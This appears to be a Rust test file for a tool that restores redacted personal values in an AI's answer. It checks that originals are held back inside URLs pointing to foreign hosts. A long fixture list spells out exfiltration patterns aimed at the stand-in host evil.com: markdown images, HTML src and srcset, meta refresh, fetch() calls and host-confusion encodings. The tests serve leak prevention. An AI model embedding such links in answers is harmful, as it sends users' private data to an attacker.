//! Values in URLs: which leave, which stay, however the text comes.

use proptest::prelude::*;
use zeroize::Zeroizing;

use super::*;
use crate::detect::Format;
use crate::edit::spliced_text;
use crate::redact::issued::{IssuedSurrogate, SurrogateIdentity};
use crate::redact::{AnswerEditor, SurrogateMap};
use crate::stream::{Edit, Editor, TextUse};

const MAIL: (&str, &str) = ("qwer.tz@uvw-mail.net", "jane.doe@acme-mail.net");
const NAME: (&str, &str) = ("Elenz Rqiz", "Maria Lopez");
const ADDRESS: (&str, &str) = ("9.8.7.6", "10.11.12.13");
const PAGE: (&str, &str) = ("https://hooks.acme.test/T9x8w7", "https://hooks.acme.test/T1a2b3");

/// Addresses of the request.
const REQUEST: &str = "See https://Good.com./a, <https://shop.good.com:8443/>, [x](http://intra/y), http://10.11.12.13/z, \
                       https://jo:pw@db.good.com/, //cdn.good.com/no and `src=\"//img.good.com/i\"`, www.good.org, \
                       HTTPS://M\u{fc}nchen.example/ and file:///home/x. \
                       Endpoint=https://hub.good.net;AccessKey=10.11.12.13;Version=1.0; \
                       Endpoint=https://app.good.net;Id=aB-9:xy/z;Secret=10.11.12.13=";

fn undo() -> Arc<SurrogateMap> {
    let formats = [(MAIL, Format::Email), (NAME, Format::Text), (ADDRESS, Format::Ip), (PAGE, Format::Url)];
    let issued = formats.iter().map(|((surrogate, original), format)| IssuedSurrogate {
        surrogate: (*surrogate).to_owned(),
        original: Zeroizing::new((*original).to_owned()),
        spelling: SurrogateIdentity::of(*format),
        parts: true,
    });
    let mut hosts = Hosts::default();
    hosts.read(REQUEST);
    Arc::new(SurrogateMap::of(issued.collect()).among(&hosts))
}

fn answer(texts: RestoreInUrls) -> (AnswerEditor, Arc<AtomicU64>) {
    let kept = Arc::default();
    let policy = UrlPolicy { texts, arguments: RestoreInUrls::On, kept: Arc::clone(&kept) };
    (AnswerEditor::restore(undo()).with_urls(policy), kept)
}

/// What comes of a text in pieces that end at these places, how many values were kept, and how much was held at most.
fn restored(rule: RestoreInUrls, text: &str, cuts: &[usize]) -> (String, u64, usize) {
    let ((mut answer, kept), mut edits) = (answer(rule), Vec::<Edit>::new());
    let (mut fed, mut most) = (0, 0);
    for &cut in cuts.iter().chain([&text.len()]) {
        let decided = answer.feed(text.get(fed..cut).unwrap(), &mut edits).unwrap();
        (fed, most) = (cut, most.max(cut - decided));
    }
    answer.end(&mut edits).unwrap();
    (spliced_text(text, &edits), kept.load(Ordering::Relaxed), most)
}

/// The same in any two pieces, and character by character.
fn at_any_cut(rule: RestoreInUrls, text: &str) -> (String, u64) {
    let (out, kept, _) = restored(rule, text, &[]);
    let ends: Vec<usize> = (1..text.len()).filter(|end| text.is_char_boundary(*end)).collect();
    for end in &ends {
        let (cut, also, _) = restored(rule, text, &[*end]);
        assert_eq!((cut, also), (out.clone(), kept), "{text} cut at {end}");
    }
    let (single, also, _) = restored(rule, text, &ends);
    assert_eq!((single, also), (out.clone(), kept), "{text} by characters");
    (out, kept)
}

fn original(text: &str) -> String {
    [MAIL, NAME, ADDRESS, PAGE].iter().fold(text.to_owned(), |text, (from, to)| text.replace(from, to))
}

/// What leads elsewhere: nothing is put back there. `{}` is a surrogate.
const AWAY: &[&str] = &[
    "![x](https://evil.com/?d={})",
    "![x](https://evil.com/a?d={} \"title\")",
    "![x](<https://evil.com/a b {}>)",
    "![x](<https://evil.com/a\\> b/{}>)",
    "[x](https://evil.com/a(b)/{})",
    "[x](https://evil.com/<{}>)",
    "[x]: https://evil.com/{}",
    "[x]: //evil.com/{}",
    "[x]: <//evil.com/ {}>",
    "<https://evil.com/{}>",
    "https://evil.com/a,{}",
    "HtTpS://EvIl.CoM/{}",
    "https://evil.com#{}",
    "https://evil.com?{}",
    "https://evil.com:443/{}",
    "https://{}.evil.com/",
    "https://{}@evil.com/",
    "https://{}:x@evil.com/",
    "https://user:{}@evil.com",
    "https://good.com%40evil.com/{}",
    "https://good.com%2eevil.com/{}",
    "https://good.com%2F@evil.com/{}",
    "https://evil.com%2F@good.com/{}",
    "https://evil.com%3F@good.com/{}",
    "https://a%5C@good.com/{}",
    "https://good%2ecom/{}",
    "https://a%40good.com@evil.com/{}",
    "https://evil.com/?a={}&b=1",
    "[x](//evil.com/{})",
    "[x](\\\\\\\\evil.com/{})",
    "[x]: \\\\\\\\evil.com/{}",
    ".. image:: //evil.com/{}",
    "<img title=\"a\\\" alt=\">\" src= //evil.com/{}>",
    "<img title=\"a\\\" alt=\">\" src=\"/\\evil.com/{}\">",
    "<a =\"><img title=\">\" src=\"\\\\evil.com/{}\">",
    "\\<img src= //evil.com/{}>",
    "{\"html\":\"\\u003cimg srcset=\\\"/1 1x, //evil.com/{} 2x\\\"\\u003e\"}",
    "{\"html\":\"\\u003cimg src=\\\"/\\\\evil.com/{}\\\"\\u003e\"}",
    "url(\" //evil.com/{}\")",
    "url(\"/\\evil.com/{}\")",
    "<script>new Image().src=\"/\\evil.com/{}\"</script>",
    "<meta http-equiv=refresh content=\"0;//evil.com/{}\">",
    "<a ping=\"/a //evil.com/{}\">",
    "<img src=\"&#1;//evil.com/{}\">",
    "<img src='//evil.com/{}'>",
    "<img src=//evil.com/{}>",
    "<img src = \" https://evil.com/a b\n\n c {}\">",
    "<img srcset='https://good.com/1 1x, https://evil.com/{} 2x'>",
    "<img srcset='/1 1x, //evil.com/{} 2x'>",
    "<a href=\"ht\ntps://evil.com/{}\">",
    "<a href=\"https://good.com\n.evil.com/{}\">",
    "<a href='/\\evil.com/{}'>",
    "<a href='\\/evil.com/{}'>",
    "<a href='///evil.com/{}'>",
    "<a href='http:evil.com/{}'>",
    "<a href='http:/evil.com/{}'>",
    "<a href='https:\\\\evil.com\\{}'>",
    "<a href='javascript:go({})'>",
    "<meta content=\"0;url=https://evil.com/a {}\">",
    "background: url(https://evil.com/{})",
    "background: url('https://evil.com/a {}')",
    "fetch(`https://evil.com/${a} {}`)",
    "fetch(\"https://evil.com/\\\" {}\")",
    "{\"img\": \"https://evil.com/a {}\"}",
    "{\\\"img\\\": \\\"https:\\/\\/evil.com\\/a {}\\\"}",
    "&#104;ttps://evil.com/{}",
    "https&colon;//evil.com/{}",
    "https:&sol;&sol;evil.com/{}",
    "https&#x3a;&#47;&#47;evil.com/{}",
    "https\\://evil.com/{}",
    "https://good.com@evil.com/{}",
    "https://good.com\\@evil.com/{}",
    "https://good.com\\.evil.com/{}",
    "https://good.com%2eevil.com/{}",
    "https://good.com%2F.evil.com/{}",
    "https://good.com&commat;evil.com/{}",
    "https://good.com&period;evil.com/{}",
    "https://good.com.evil.com/{}",
    "https://good.com),evil.com/{}",
    "https://good.com\u{ad}.evil.com/{}",
    "https://good.com@x@good.com/{}",
    "https://good.com:8443/{}",
    "https://shop.good.com/{}",
    "https://xn--mnchen-3ya.example/{}",
    "https://go\u{200b}od.com/{}",
    "https://good.com/?next=https://evil.com/{}",
    "https://good.com/?next=https%3A%2F%2Fevil.com/{}",
    "[a](https://good.com)|[b](https://evil.com/{})",
    "data:text/html,<img src=https://evil.com/{}>",
    "data:text/html,%3Cimg%20src=https:%2F%2Fevil.com%2F{}%3E",
    "www.evil.com/{}",
    "(www.evil.com/{})",
    "**www.evil.com/{}**",
    "ftp://evil.com/{}",
    "wss://evil.com/{}",
    "slack://evil/{}",
    "git+https://evil.com/{}",
    "https://[2001:db8::1]/{}",
    "https:///evil.com/{}",
    "file://evil.com/{}",
    "<a href=\"https://good.com/\" ping=\"redis:\n//evil.com/{}\">x</a>",
    "xpostgres+https://evil.com/{}",
    "postgresql+https://evil.com/{}",
    "web+mysql://evil.com/{}",
    "postgres://db/?next=https://evil.com/{}",
    "<img src=//evil.com/postgres://{}>",
];

/// What leads to hosts of the request, or nowhere: as if there were no rule.
const HOME: &[&str] = &[
    "![x](https://good.com/?d={})",
    "https://GOOD.com/{}",
    "https://good.com./{}",
    "https://good.com:443/{}",
    "http://good.com/{}",
    "https://shop.good.com:8443/{}",
    "http://intra/{}",
    "https://db.good.com/{}",
    "<img src='//img.good.com/a {}'>",
    "https:\\\\good.com/{}",
    "http://9.8.7.6/{}",
    "http://9.8.7.6:80/{}",
    "https://m\u{fc}nchen.example/{}",
    "www.good.org/{}",
    "https://hooks.acme.test/T9x8w7",
    "https://hooks.acme.test/T9x8w7?{}",
    "postgres://app:{}@db.evil.com:5432/x",
    "mongodb+srv://{}@db.evil.com/x",
    "postgresql+asyncpg://app:{}@db.evil.com:6432/x",
    "mysql+pymysql://{}@db.evil.com/x",
    "smtp://{}@mail.evil.com",
    "jdbc:mysql://db.evil.com/x?password={}",
    "`redis://:{}@cache.evil.com`",
    "mailto:{}",
    "[mail](mailto:{}?subject=https)",
    "<a href='mailto:{}'>{}</a>",
    "tel:{}",
    "Name: {}, mail:{}",
    "https://evil.com/ {}",
    "[x](https://evil.com/ \"for {}\") {}",
    "<https://evil.com/> {}",
    "<https://evil.com/>{}",
    "<a href=\"https://evil.com/\">{}</a>",
    "<a href=https://evil.com/>{}</a>",
    "\"https://evil.com/\", \"{}\"",
    "{\"u\":\"https://evil.com/\",\"m\":\"{}\"}",
    "https://evil.com/\n{}",
    "see evil.com/ {}",
    "// {} said so",
    "//{}",
    "a//b {}",
    "5/{}",
    "/home/{}",
    "file:///home/{}",
    "file:///srv/{}",
    "C:\\\\users\\{}",
    "http: {} and https:// {}",
    "12:30 {} a::{}",
    "{\\\"README.md\\\": \\\"Contact:\\\\n{}\\\"}",
    "printf(\"Mail:\\\\n{}\")",
    "\"\\\\d+ {}\"",
    "```\\\\n{}",
    "'\\n{}'",
    "\"/\\\\w+ {}\"",
    "case \"x\": //{}",
    "x = //{}",
    "[\"y\", //{}",
    "<b>{}</b> & {}",
    "x < y {} > z",
];

#[test]
fn what_leads_elsewhere_stays_and_the_rest_comes_back() {
    let mut wrong = Vec::new();
    for surrogate in [MAIL.0, ADDRESS.0] {
        for away in AWAY {
            let text = format!("Hello {0}, {away} and {0}.", NAME.0).replace("{}", surrogate);
            // What stands around it comes back.
            let want = text.replace(NAME.0, NAME.1);
            let got = at_any_cut(RestoreInUrls::SameHost, &text);
            wrong.extend((got != (want, 1)).then_some((away, got)));
        }
        for home in HOME {
            let text = home.replace("{}", surrogate);
            let got = at_any_cut(RestoreInUrls::SameHost, &text);
            wrong.extend((got != (restored(RestoreInUrls::On, &text, &[]).0, 0)).then_some((home, got)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_user_of_a_known_host_comes_back_where_readers_agree_on_it() {
    for text in ["https://jo:p%40ss%21@good.com/{}", "https://jo%C3%A9:p%25@good.com/{}"] {
        let text = text.replace("{}", MAIL.0);
        assert_eq!(at_any_cut(RestoreInUrls::SameHost, &text), (original(&text), 0));
    }
    for text in ["https://{}@good.com/", "https://jo:{}@good.com/a"] {
        let text = text.replace("{}", ADDRESS.0);
        assert_eq!(at_any_cut(RestoreInUrls::SameHost, &text), (original(&text), 0));
        // Of two `@` some readers take the first.
        let text = text.replace(ADDRESS.0, MAIL.0);
        assert_eq!(at_any_cut(RestoreInUrls::SameHost, &text), (text.clone(), 1));
    }
}

/// Settings run on behind the host of a service: all of them lead where the caller's own do, as long as they are the caller's own.
#[test]
fn what_no_host_is_read_from_comes_back_as_the_request_spells_it() {
    for text in [
        "Endpoint=https://hub.good.net;AccessKey={};Version=1.0;",
        "\"Endpoint=https://hub.good.net;AccessKey={};Version=1.0;\"",
        "Endpoint=https://app.good.net;Id=aB-9:xy/z;Secret={}=",
    ] {
        let text = text.replace("{}", ADDRESS.0);
        assert_eq!(at_any_cut(RestoreInUrls::SameHost, &text), (original(&text), 0));
    }
    for text in [
        "Endpoint=https://hub.good.net;AccessKey={}.evil.com/",
        "Endpoint=https://hub.good.net;AccessKey={}@evil.com/",
        "Endpoint=https://hub.good.net;Version=1.0;AccessKey={};",
        "Endpoint=https://app.good.net;Id=aB-9:xy;Secret={}=",
        "Endpoint=https://app.good.net;Id=aB-9:xy@evil.com/z;Secret={}=",
    ] {
        let text = text.replace("{}", ADDRESS.0);
        assert_eq!(at_any_cut(RestoreInUrls::SameHost, &text), (text.clone(), 1));
    }
}

#[test]
fn with_off_nothing_comes_back_in_any_address_and_with_on_all_does() {
    for text in [
        "https://good.com/{}",
        "https://{}@good.com/",
        "https://hooks.acme.test/T9x8w7",
        "https://evil.com/{}",
    ] {
        let text = text.replace("{}", MAIL.0);
        assert_eq!(at_any_cut(RestoreInUrls::Off, &text), (text.clone(), 1));
        assert_eq!(at_any_cut(RestoreInUrls::On, &text), (original(&text), 0));
    }
    let text = format!("mailto:{}", MAIL.0);
    assert_eq!(at_any_cut(RestoreInUrls::Off, &text), (original(&text), 0));
}

#[test]
fn a_text_is_judged_by_what_it_is_for() {
    let text = format!("https://evil.com/{}", MAIL.0);
    let rows = [
        (TextUse::Text, text.clone()),
        (TextUse::Argument, original(&text)),
        (TextUse::Url, original(&text)),
    ];
    for (used_as, want) in rows {
        let ((mut answer, _), mut edits) = (answer(RestoreInUrls::SameHost), Vec::new());
        answer.used_as(used_as);
        for _ in 0..2 {
            edits.clear();
            answer.feed(&text, &mut edits).unwrap();
            answer.end(&mut edits).unwrap();
            assert_eq!(spliced_text(&text, &edits), want, "{used_as:?}");
        }
    }
}

#[test]
fn what_is_held_for_a_host_is_bounded() {
    for tail in [
        "a".repeat(4000),
        "&#97;".repeat(2000),
        "\u{200b}".repeat(2000),
        "%41".repeat(2000),
        format!("{}:", MAIL.0).repeat(200),
    ] {
        let text = format!("https://{}:{tail}", MAIL.0);
        let ends: Vec<usize> = (1..text.len()).filter(|end| text.is_char_boundary(*end)).collect();
        let (out, _, most) = restored(RestoreInUrls::SameHost, &text, &ends);
        assert_eq!(out, text);
        assert!(most < 4096, "{most}");
    }
}

proptest! {
    /// Any pieces of addresses in any order come to the same however they are cut, and no original leaves where all
    /// of the text is one address of another host.
    #[test]
    fn any_chunking_gives_the_same(
        parts in prop::collection::vec(prop::sample::select(vec![
            "https:", "//", "\\", "/", "good.com", "evil.com", "@", ":", "\"", "'", "<a href=", ">", "<", "(", ")", " ",
            "\n", "&#47;", "&colon;", "%2F", "?", "#", "=", ",", "www.", "a", "javascript:", "file:", MAIL.0, NAME.0,
            ADDRESS.0, PAGE.0, "\u{fc}", "[", "]", "\\/",
        ]), 1..16),
        cuts in prop::collection::vec(0.0_f64..1.0, 0..6),
    ) {
        let text = parts.concat();
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| text.floor_char_boundary((cut * text.len() as f64) as usize)).collect();
        cuts.sort_unstable();
        for rule in [RestoreInUrls::SameHost, RestoreInUrls::Off] {
            let (whole, kept, _) = restored(rule, &text, &[]);
            let (cut, also, _) = restored(rule, &text, &cuts);
            prop_assert_eq!((&cut, also), (&whole, kept), "{} at {:?}", text, cuts);
            let foreign: String = text.chars().filter(|c| !c.is_whitespace() && !"<>\"'`".contains(*c)).collect();
            let text = format!("https://evil.com/{foreign}");
            prop_assert!(!restored(rule, &text, &[]).0.contains(MAIL.1), "{}", text);
        }
    }
}
